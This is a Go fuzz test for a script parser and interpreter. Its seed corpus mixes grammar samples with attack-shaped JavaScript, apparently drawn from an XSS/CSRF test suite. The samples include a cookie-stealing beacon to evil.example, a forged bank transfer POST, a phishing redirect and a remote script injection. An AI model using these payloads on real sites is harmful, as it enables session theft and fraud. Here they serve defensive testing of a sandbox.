package script

import "testing"

// fuzzSeeds covers the grammar; the attack-corpus bodies below mirror
// internal/attack's §6.4 scripts, so the fuzzer starts from the exact
// shapes the monitor mediates in production (document, Image, and
// XMLHttpRequest resolve to "undefined variable" errors under StdEnv).
var fuzzSeeds = []string{
	`var x = 1; x + 2;`,
	`function f(a) { return a * 2; } f(21);`,
	`for (var i = 0; i < 3; i++) { }`,
	`var o = {a: [1, 2]}; o.a[0];`,
	`"str" + 1 + true + null;`,
	`while (x) break;`,
	`new F(1, 2);`,
	`a ? b : c;`,
	`x = /* comment */ 1; // tail`,
	// attack-corpus script bodies (xss.go / csrf.go shapes)
	`var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);`,
	`document.getElementById("announcement").innerText = "OWNED BY MALLORY";`,
	`var x = new XMLHttpRequest(); x.open("POST", "http://bank.example/transfer"); x.send("to=mallory&amount=1000");`,
	`document.getElementById("f").submit();`,
	`document.location = "http://evil.example/phish";`,
	`var ok = attempt(function() { return document.cookie; }); log("leaked", ok);`,
	`var el = document.createElement("script"); el.src = "http://evil.example/payload.js"; document.body.appendChild(el);`,
}

// FuzzParse checks the parser never panics and, on whatever parses,
// the interpreter finishes or stops at its step budget without
// panicking.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		prog, err := Parse(s)
		if err != nil {
			return
		}
		ip := &Interp{MaxSteps: 20000}
		_, _ = ip.Run(prog, StdEnv(&Console{})) // termination is the invariant
	})
}
